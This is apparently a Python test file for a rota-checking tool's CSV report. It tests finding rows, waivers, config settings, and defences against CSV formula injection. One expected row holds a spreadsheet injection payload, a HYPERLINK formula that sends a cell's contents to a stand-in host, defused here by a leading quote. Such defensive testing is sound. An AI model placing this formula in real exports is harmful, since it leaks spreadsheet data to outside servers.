"""`check --format csv`: a row per finding for a spreadsheet or a data frame, then the rules
not applied, those that read nothing and the values set over the policy's, as rows too."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import unicodedata
from pathlib import Path

from conftest import made_by_masked
from hypothesis import given
from hypothesis import strategies as st

from workrules.cli import main
from workrules.findings import Evidence, Finding, NotApplied, Period, Result, Setting
from workrules.report import CSV_HEADERS, csv_text

ROOT = Path(__file__).resolve().parent.parent
FOLDER = ROOT / "fixtures" / "csv-report"
ARGS = ["check", "--config", "fixtures/csv-report/workrules.toml",
        "fixtures/csv-report/rota.yaml", "fixtures/csv-report/staff.yaml",
        "--today", "2026-12-01", "--format", "csv"]  # fmt: skip


def run(argv: list[str]) -> tuple[int, str]:
    out = io.StringIO()
    with contextlib.chdir(ROOT), contextlib.redirect_stdout(out), \
            contextlib.redirect_stderr(io.StringIO()):
        code = main(argv)
    return code, out.getvalue()


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_report_is_exactly_the_expected_one() -> None:
    code, out = run(ARGS)
    assert code == 1
    expected = (FOLDER / "expected" / "report.csv").read_text(encoding="utf-8")
    assert made_by_masked(out) == made_by_masked(expected)  # (the `made by` row's digest: any)
    assert run(ARGS) == (code, out)  # byte-identical


def test_each_finding_is_a_row_with_its_unit_period_values_and_evidence() -> None:
    first = rows(run(ARGS)[1])[0]
    assert first == {
        "kind": "finding", "rule": "upw-contact-hours", "clause": "5c", "severity": "error",
        "waived": "no", "subject": "S1",
        "unit": "'=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"North PDU\")",
        "period": "2026-11-27", "start": "2026-11-27", "end": "2026-11-27",
        "file": "fixtures/csv-report/rota.yaml", "line": "5", "measured": "9 h",
        "limit": "at most 8 h", "value": "9", "limit_value": "8.0",
        "evidence": "fixtures/csv-report/rota.yaml:5",
        "message": "S1 had 9 h of contact with work groups on 2026-11-27 (U1); the cap is 8 h "
                   "a day (5c).",
        "staff": "S1", "value_unit": "h",
    }  # fmt: skip


def test_a_waived_finding_says_so_and_its_terms_are_text_not_a_formula() -> None:
    waived = [r for r in rows(run(ARGS)[1]) if r["waived"] == "yes"]
    assert [(r["rule"], r["subject"]) for r in waived] == [("upw-contact-hours", "S2")]
    assert waived[0]["message"].endswith(
        "waived until 2027-06-30, agreed by PDU head and branch secretary: -the van broke "
        "down; the group waited at the site (fixtures/csv-report/workrules.toml:5)")


def test_the_values_a_config_set_are_rows_even_when_quiet() -> None:
    settings = [(r["subject"], r["measured"], r["limit"], r["file"], r["line"])
                for r in rows(run([*ARGS, "--quiet"])[1]) if r["kind"] == "setting"]
    assert settings == [
        ("upw_ratio", "1:5", "1:6", "fixtures/csv-report/workrules.toml", "13"),
        # the config's waiver, as a policy file's (attack round 34, P5)
        ("waiver upw-contact-hours", 'for "S2" until 2027-06-30', "no waiver in claim-2024",
         "fixtures/csv-report/workrules.toml", "5"),
        ("select", "upw-*", "all 60 rules", "fixtures/csv-report/workrules.toml", "3"),
    ]  # fmt: skip


def test_rules_not_applied_and_unread_are_rows_unless_quiet() -> None:
    argv = ["check", "--no-config", "fixtures/readme/rota.yaml", "fixtures/readme/staff.yaml",
            "--format", "csv"]  # fmt: skip
    code, out = run(argv)
    kinds = [(r["kind"], r["rule"]) for r in rows(out)]
    assert code == 1
    assert kinds[:2] == [("finding", "upw-contact-hours"), ("not applied", "pta-learners")]
    assert ("unread", "wmt-over-ceiling") in kinds
    reasons = {r["rule"]: r["message"] for r in rows(out) if r["kind"] == "not applied"}
    assert reasons["pta-learners"] == ("cap not yet agreed: pta_learners_max is unset (set "
                                       "with --set pta_learners_max=N)")  # fmt: skip
    quiet = [r["kind"] for r in rows(run([*argv, "--quiet"])[1])]
    assert "not applied" not in quiet and quiet[0] == "finding"


def test_a_job_description_s_finding_has_no_period_and_the_example_reads_back() -> None:
    code, out = run(["check", "--no-config", "fixtures/example", "--format", "csv"])
    findings = [r for r in rows(out) if r["kind"] == "finding"]
    assert code == 1 and len(findings) == 10
    span = next(r for r in findings if r["rule"] == "jd-span-stated")
    assert (span["period"], span["start"], span["end"], span["line"]) == ("", "", "", "6")
    assert span["subject"] == "fixtures/example/jd/business-manager.md"


# ------------------------------------------------------------------------------ any text

_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)


@given(subject=_TEXT, unit=_TEXT, message=_TEXT, label=_TEXT, reason=_TEXT, value=_TEXT,
       clause=_TEXT, number=st.floats(allow_nan=False, allow_infinity=False))
def test_any_text_gives_one_row_per_finding_with_no_formula_and_no_log_command(
        subject: str, unit: str, message: str, label: str, reason: str, value: str,
        clause: str, number: float) -> None:  # fmt: skip
    # (a repository policy writes the clause: `clause "=HYPERLINK(...)"`, review 49)
    day = dt.date(2025, 3, 3)
    finding = Finding(rule="r", clause=clause, severity="error", subject=subject,
                      period=Period("day", day, day), file="a.yaml", line=3, measured=value,
                      limit="at most 8 h", value=value, limit_value=number,
                      evidence=(Evidence("a.yaml", 3, "session", label),), facts=(),
                      message=message, unit=unit)  # fmt: skip
    result = Result(policy="p", files=("a.yaml",), findings=(finding, finding),
                    not_applied=(NotApplied("n", clause, reason, ()),), rules_applied=1,
                    settings=(Setting(value, value, "1:6", "w.toml", 2),))  # fmt: skip
    text = csv_text(result)
    read = list(csv.reader(io.StringIO(text)))
    assert read[0] == list(CSV_HEADERS)
    assert [r[0] for r in read[1:]] == ["finding", "finding", "not applied", "setting",
                                        "made by"]  # fmt: skip
    assert all(len(r) == len(CSV_HEADERS) for r in read)
    for row in read[1:]:
        for i, cell in enumerate(row):
            if CSV_HEADERS[i] in ("value", "limit_value") and cell == repr(round(number, 6) + 0.0):
                continue  # (a number: -1.5 is no formula)
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
            assert not any(unicodedata.category(c) in ("Cc", "Zl", "Zp") for c in cell), row
    assert not any(line.lstrip().startswith("::") for line in text.splitlines())
    assert text == csv_text(result)
